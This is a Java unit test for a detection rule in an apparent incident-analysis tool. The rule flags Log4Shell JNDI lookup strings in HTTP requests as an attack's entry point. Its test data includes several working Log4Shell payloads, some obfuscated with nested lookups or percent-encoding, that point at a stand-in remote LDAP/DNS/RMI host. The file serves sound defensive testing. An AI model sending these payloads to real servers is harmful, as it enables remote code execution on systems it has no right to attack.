package dev.strata.job.incident;

import static org.assertj.core.api.Assertions.assertThat;

import dev.strata.schema.correlate.AttackStage;
import dev.strata.schema.event.EvidenceEvent;
import dev.strata.schema.event.HttpRequest;
import java.time.Instant;
import org.junit.jupiter.api.Test;

/** PodmanHostScenarioIT found the Log4Shell request to the container no signal: the attack path had no entry. */
class JndiLookupRequestsTest {
  static final Instant T = Instant.parse("2026-11-20T09:14:02Z");

  static EvidenceEvent request(String url, String userAgent, String referrer) {
    EvidenceEvent e = IncidentGrouperTest.base("http-" + url + userAgent + referrer, T, "cri_log");
    e.setClassUid(4002);
    e.setHttpRequest(HttpRequest.newBuilder().setMethod("GET").setUrl(url).setUserAgent(userAgent).build());
    if (referrer != null) e.getUnmapped().put("http.referrer", referrer);
    return e;
  }

  @Test
  void aJndiLookupInAnAccessLinesUserAgentIsTheEntry() {
    SignalRules.Signal s = SignalRules.defaults().classify(request("/api/orders/search?q=test",
        "${jndi:ldap://198.51.100.77:1389/o}", null));
    assertThat(s).isNotNull();
    assertThat(s.stage()).isEqualTo(AttackStage.ENTRY);
    assertThat(s.severityId()).isEqualTo(4);
    assertThat(s.reason()).isEqualTo("jndi_lookup_request");
  }

  @Test
  void inTheUrlPercentEncodedInTheReferrerAndHiddenByNestedLookups() {
    SignalRules rules = SignalRules.defaults();
    assertThat(rules.classify(request("/?x=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.77%2Fa%7D", "curl/8.0", null)))
        .isNotNull();
    assertThat(rules.classify(request("/", "Mozilla/5.0", "${jndi:dns://198.51.100.77/r}"))).isNotNull();
    assertThat(rules.classify(request("/", "${${lower:j}${upper:N}${::-d}i:rmi://198.51.100.77/x}", null))).isNotNull();
    assertThat(rules.classify(request("/", "${${env:NaN:-j}ndi${env:NaN:-:}ldap://198.51.100.77/x}", null)))
        .isNotNull();
    assertThat(rules.classify(request("/", "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://h/x}", null)))
        .isNotNull();
  }

  @Test
  void ordinaryRequestsAndOtherEventsAreContext() {
    SignalRules rules = SignalRules.defaults();
    assertThat(rules.classify(request("/api/orders/search?q=blue+mug", "Mozilla/5.0 (X11; Linux x86_64)", "-")))
        .isNull();
    assertThat(rules.classify(request("/price?fmt=${amount}", "Mozilla/5.0", null))).isNull();
    assertThat(rules.classify(request("/a%ZZb", "Mozilla/5.0", null))).isNull();
    // the same text in a plain log line (not an HTTP request) is not judged here
    EvidenceEvent line = IncidentGrouperTest.base("line", T, "cri_log");
    line.setMessage("client agent ${jndi:ldap://198.51.100.77:1389/o}");
    assertThat(rules.classify(line)).isNull();
  }
}
